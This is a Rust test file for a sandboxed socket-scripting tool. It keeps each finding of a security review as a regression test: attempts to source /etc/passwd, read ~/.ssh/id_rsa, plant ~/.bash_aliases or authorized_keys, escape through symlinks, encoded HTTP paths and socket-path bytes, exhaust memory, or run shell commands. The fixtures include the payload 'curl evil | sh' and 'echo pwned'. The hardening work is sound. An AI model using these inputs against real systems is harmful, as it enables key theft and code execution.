//! What a review found by attacking the hardening of issue 12 once more,
//! each kept as a test: a lesson (a script file run in a scratch
//! directory) tries to read, make or wait where it must not. Every run has
//! a deadline (30 s: a hang is a status of None); files live in scratch
//! directories; addresses are loopback.

mod common;

use common::{PAIR, Scratch, has};
use std::path::Path;

/// Runs `text` as the lesson file `t.sp` in `dir`.
fn lesson(dir: &Path, args: &[&str], text: &str) -> common::Run {
    common::script(dir, args, text)
}

fn mkfifo(p: &Path) {
    use std::os::unix::ffi::OsStrExt;
    let c = std::ffi::CString::new(p.as_os_str().as_bytes()).expect("path");
    // SAFETY: a valid C string.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0, "mkfifo");
}

/// A FIFO with no writer (shipped beside a lesson, as a tar file keeps
/// one) or a device: opening one to read waited for a writer that never
/// came, in an open() that Ctrl-C does not end; /dev/zero is one endless
/// line, read and dropped for ever. Each is now an error at once.
#[test]
fn sendfile_and_source_of_a_fifo_or_a_device_do_not_hang() {
    let s = Scratch::new("attack-fifo");
    mkfifo(&s.path().join("pipe"));
    for (line, want) in [
        ("sendfile k ./pipe", "is not a regular file"),
        ("source ./pipe", "is not a regular file"),
        ("source /dev/zero", "PermissionError"),
    ] {
        let run = lesson(s.path(), &[], &format!("{PAIR}{line}\n"));
        assert_eq!(run.status, Some(1), "{line}: {}", run.output);
        has(&run, want);
    }
}

/// `source` read any file the user can read (`source /etc/passwd` showed
/// its lines in the errors), while the lesson promise says a lesson reads
/// only under the current directory, as `sendfile` does.
#[test]
fn a_lesson_sources_only_files_here() {
    let s = Scratch::new("attack-source");
    let other = Scratch::new("attack-source-other");
    let secret = other.path().join("notes.txt");
    std::fs::write(&secret, "password hunter2\n").expect("secret");
    std::os::unix::fs::symlink(&secret, s.path().join("leak.sp")).expect("link");
    let secret_s = secret.to_str().expect("utf-8");
    for line in [format!("source {secret_s}"), "source leak.sp".to_string()] {
        let run = lesson(s.path(), &[], &format!("{line}\n"));
        assert_eq!(run.status, Some(1), "{line}: {}", run.output);
        has(&run, "PermissionError");
        has(&run, "--allow-read");
        assert!(!run.output.contains("hunter2"), "{}", run.output);
    }
    // Here, and where --allow-read says, is fine.
    std::fs::write(s.path().join("part.sp"), "echo \"from part\"\n").expect("part");
    let run = lesson(
        s.path(),
        &["--allow-read", other.path().to_str().expect("utf-8")],
        "source part.sp\n",
    );
    assert_eq!(run.status, Some(0), "{}", run.output);
    has(&run, "from part");
}

/// Run from the home folder, "new files under the current directory"
/// included `~/.bash_aliases` (which every new bash runs: command
/// execution at the next terminal), `~/.ssh/authorized_keys` when there
/// was none, and reading `~/.ssh/id_rsa` to send it to a peer.
#[test]
fn a_lesson_run_at_home_neither_makes_nor_reads_hidden_files() {
    let home = Scratch::new("attack-home");
    let h = home.path();
    std::fs::create_dir(h.join(".ssh")).expect(".ssh");
    std::fs::write(h.join(".ssh/id_rsa"), "PRIVATE KEY").expect("key");
    std::fs::create_dir(h.join("www")).expect("www");
    std::os::unix::fs::symlink(h.join(".ssh/id_rsa"), h.join("www/key")).expect("link");
    let sending = format!("{PAIR}send k b\"curl evil | sh\"\nclose k\n");
    for (line, want) in [
        ("recvfile c .bash_aliases", "hidden name (.bash_aliases)"),
        ("recvfile c .ssh/authorized_keys", "hidden name (.ssh)"),
        ("recvfile c ./sub/../.profile", "PermissionError"),
        ("sendfile c .ssh/id_rsa", "hidden name (.ssh)"),
        ("sendfile c www/key", "hidden name (.ssh)"),
        ("x = socket unix\nbind x .x.sock", "hidden name (.x.sock)"),
        ("export .x.py", "hidden name (.x.py)"),
    ] {
        let run = lesson(h, &[], &format!("{sending}{line}\n"));
        assert_eq!(run.status, Some(1), "{line}: {}", run.output);
        has(&run, want);
        assert!(!run.output.contains("PRIVATE"), "{}", run.output);
    }
    let mut names: Vec<String> = std::fs::read_dir(h)
        .expect("ls")
        .filter_map(|e| e.ok())
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| !n.starts_with(".output") && n != ".config")
        .collect();
    names.sort();
    assert_eq!(names, [".ssh", "t.sp", "www"]);
    assert_eq!(
        std::fs::read_dir(h.join(".ssh")).expect("ls .ssh").count(),
        1
    );
    // Files that are not hidden are written as before.
    let run = lesson(h, &[], &format!("{sending}recvfile c got.txt\n"));
    assert_eq!(run.status, Some(0), "{}", run.output);
    assert_eq!(
        std::fs::read(h.join("got.txt")).expect("got"),
        b"curl evil | sh"
    );
}

/// The check of a UNIX socket path was made on the path with its bytes
/// that are not UTF-8 replaced (U+FFFD), while bind used the real bytes.
/// A peer's address has real bytes: from a folder named `\u{fffd}`, a
/// lesson that binds the address a datagram came from (`<dir>/\xff/p.sock`,
/// its sender gone) looked like a path here and made a socket file in
/// another folder.
#[test]
fn a_socket_path_is_checked_as_the_bytes_that_are_bound() {
    use std::os::unix::ffi::OsStrExt;
    use std::time::{Duration, Instant};
    let s = Scratch::new("attack-bytes");
    let here = s.path().join("\u{fffd}");
    let elsewhere = s.path().join(std::ffi::OsStr::from_bytes(b"\xff"));
    std::fs::create_dir(&here).expect("here");
    std::fs::create_dir(&elsewhere).expect("elsewhere");
    let theirs = elsewhere.join("p.sock");
    let ours = here.join("u.sock");
    let sender = {
        let theirs = theirs.clone();
        std::thread::spawn(move || {
            let start = Instant::now();
            while !ours.exists() && start.elapsed() < Duration::from_secs(20) {
                std::thread::sleep(Duration::from_millis(20));
            }
            let peer = std::os::unix::net::UnixDatagram::bind(&theirs).expect("their socket");
            peer.send_to(b"hi", &ours).expect("send");
            drop(peer);
            std::fs::remove_file(&theirs).expect("remove their file");
        })
    };
    let run = lesson(
        &here,
        &[],
        "u = socket unix-dgram\nbind u ./u.sock\ndata, addr = recvfrom u\nsleep 1\n\
         y = socket unix-dgram\nbind y addr\n",
    );
    sender.join().expect("sender");
    assert_eq!(run.status, Some(1), "{}", run.output);
    has(&run, "PermissionError");
    assert!(!theirs.exists(), "bound outside");
}

/// `serve http .` served every file under the folder, hidden ones too: a
/// lesson run at home fetched `/.ssh/id_rsa` from its own peer and had the
/// key in a name, to send anywhere. Hidden names are neither served (403,
/// however the path is spelled or linked) nor listed.
#[test]
fn the_http_peer_serves_no_hidden_file() {
    let home = Scratch::new("attack-http");
    let h = home.path();
    std::fs::create_dir(h.join(".ssh")).expect(".ssh");
    std::fs::write(h.join(".ssh/id_rsa"), "PRIVATE KEY").expect("key");
    std::fs::write(h.join("page.txt"), "public").expect("page");
    std::os::unix::fs::symlink(h.join(".ssh/id_rsa"), h.join("key")).expect("link");
    let get = |target: &str| {
        format!(
            "a = serve http .\nk = socket tcp\nconnect k a\n\
             sendall k \"GET {target} HTTP/1.0\\r\\n\\r\\n\"\nr = recvall k timeout 10\n"
        )
    };
    for target in ["/.ssh/id_rsa", "/%2essh/id_rsa", "/key", "/.ssh/"] {
        let run = lesson(h, &[], &get(target));
        assert_eq!(run.status, Some(0), "{target}: {}", run.output);
        has(&run, "HTTP/1.1 403");
        assert!(!run.output.contains("PRIVATE"), "{}", run.output);
    }
    let run = lesson(h, &[], &get("/"));
    assert_eq!(run.status, Some(0), "{}", run.output);
    has(&run, "page.txt");
    assert!(!run.output.contains(".ssh"), "{}", run.output);
    let run = lesson(h, &[], &get("/page.txt"));
    has(&run, "public");
}

/// Every value was at most 256 MiB, but nothing bounded them together: a
/// lesson of a hundred lines `aN = b"x" * 268435456` took 25 GiB, and on
/// a machine that overcommits no allocation fails (no MemoryError): the
/// OOM killer ends sockplay, or another program. All values alive hold
/// at most 1 GiB together; dropping one makes room again.
#[test]
fn values_together_are_bounded_too() {
    let s = Scratch::new("attack-held");
    let mut text = String::new();
    for i in 1..=5 {
        text.push_str(&format!("a{i} = b\"x\" * 268435456\n"));
    }
    text.push_str("a1 = None\na5 = \"y\" * 268435456\n");
    // Under a limit that 5 values (1.25 GiB) fit in, so the test shows
    // the shell's own bound, not the machine's.
    std::fs::write(s.path().join("t.sp"), text).expect("lesson");
    let out = std::process::Command::new("sh")
        .args([
            "-c",
            "ulimit -v 3000000; exec \"$0\" --color never --keep-going t.sp",
            common::BIN,
        ])
        .current_dir(s.path())
        .env("SOCKPLAY_CONFIG_DIR", s.path().join(".config"))
        .stdin(std::process::Stdio::null())
        .output()
        .expect("run");
    let output =
        String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{output}");
    let refused: Vec<&str> = output
        .lines()
        .filter(|l| l.contains("MemoryError"))
        .collect();
    assert_eq!(refused.len(), 2, "{output}");
    assert!(
        refused.iter().all(|l| l.contains("values alive hold")),
        "{output}"
    );
    assert!(output.contains("t.sp:4:"), "{output}");
    assert!(output.contains("t.sp:5:"), "{output}");
    assert!(output.contains("a5 = 'yyyy"), "{output}");
}

/// `run PROGRAM` (the watch feature, landed after the file rules) ran any
/// program from a lesson: `run sh -c "..."` undid every rule above (a
/// lesson wrote `~/.bashrc` through it). A script runs no program unless
/// sockplay was started with `--allow-run`.
#[test]
fn a_lesson_runs_no_program_unless_allowed() {
    let s = Scratch::new("attack-run");
    for line in [
        "run sh -c \"echo pwned > pwned.txt\"",
        "run -q sh -c \"echo pwned > pwned.txt\" &",
    ] {
        let run = lesson(s.path(), &[], &format!("{line}\n"));
        assert_eq!(run.status, Some(1), "{line}: {}", run.output);
        has(&run, "PermissionError: a script may not run a program");
        has(&run, "--allow-run");
        assert!(!s.path().join("pwned.txt").exists(), "{}", run.output);
    }
    let run = lesson(
        s.path(),
        &["--allow-run"],
        "run sh -c \"echo allowed > ok.txt\"\n",
    );
    assert_eq!(run.status, Some(0), "{}", run.output);
    assert!(s.path().join("ok.txt").exists(), "{}", run.output);
}
